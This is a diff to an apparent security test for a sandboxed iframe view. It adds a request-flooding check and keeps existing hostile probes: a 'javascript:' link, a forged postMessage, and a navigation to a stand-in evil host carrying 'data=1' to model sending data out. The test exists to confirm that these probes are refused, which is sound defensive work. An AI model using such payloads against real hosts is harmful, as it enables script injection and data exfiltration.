@@ -304,6 +304,10 @@ const ask = (method, params) => new Promise((resolve) => {
   await attempt("no arguments", () => ask("tools/call", { name: 1 }));
   await attempt("link to a script", () => ask("ui/open-link", { url: "javascript:alert(1)" }));
   await attempt("other method", () => ask("resources/read", { uri: "skill://a" }));
+  await attempt("many links", () => new Promise((resolve) => {
+    let refused = 0;
+    for (let times = 0; times < 20; times += 1) ask("ui/open-link", { url: "EVIL/link" }).then((text) => text === "refused: At most 8 requests can wait" && (refused += 1) === 12 && resolve(refused));
+  }));
   await attempt("another page", () => { parent.postMessage({ isReady: true }, "*"); return "asked"; });
   document.body.appendChild(Object.assign(document.createElement("p"), { textContent: "end" }));
 })();`;
@@ -342,8 +346,10 @@ test("a hostile view reads nothing, reaches nobody, and stays where it is", asyn
     "no arguments": "refused: expected a name, and arguments that are an object",
     "link to a script": "refused: expected the address of a web page",
     "other method": "refused: The playground does not have this",
+    "many links": "12",
     "another page": "asked",
   });
+  assert.equal(await page.getByRole("button", { name: "Allow" }).count(), 8, "the visitor decides");
   // It may go nowhere: a page elsewhere would get what it has read.
   await frame.locator("body").evaluate((_, address) => void (location.href = address), `${evil.base}/away?data=1`);
   await page.waitForFunction(() => document.querySelector(".view iframe") !== null);
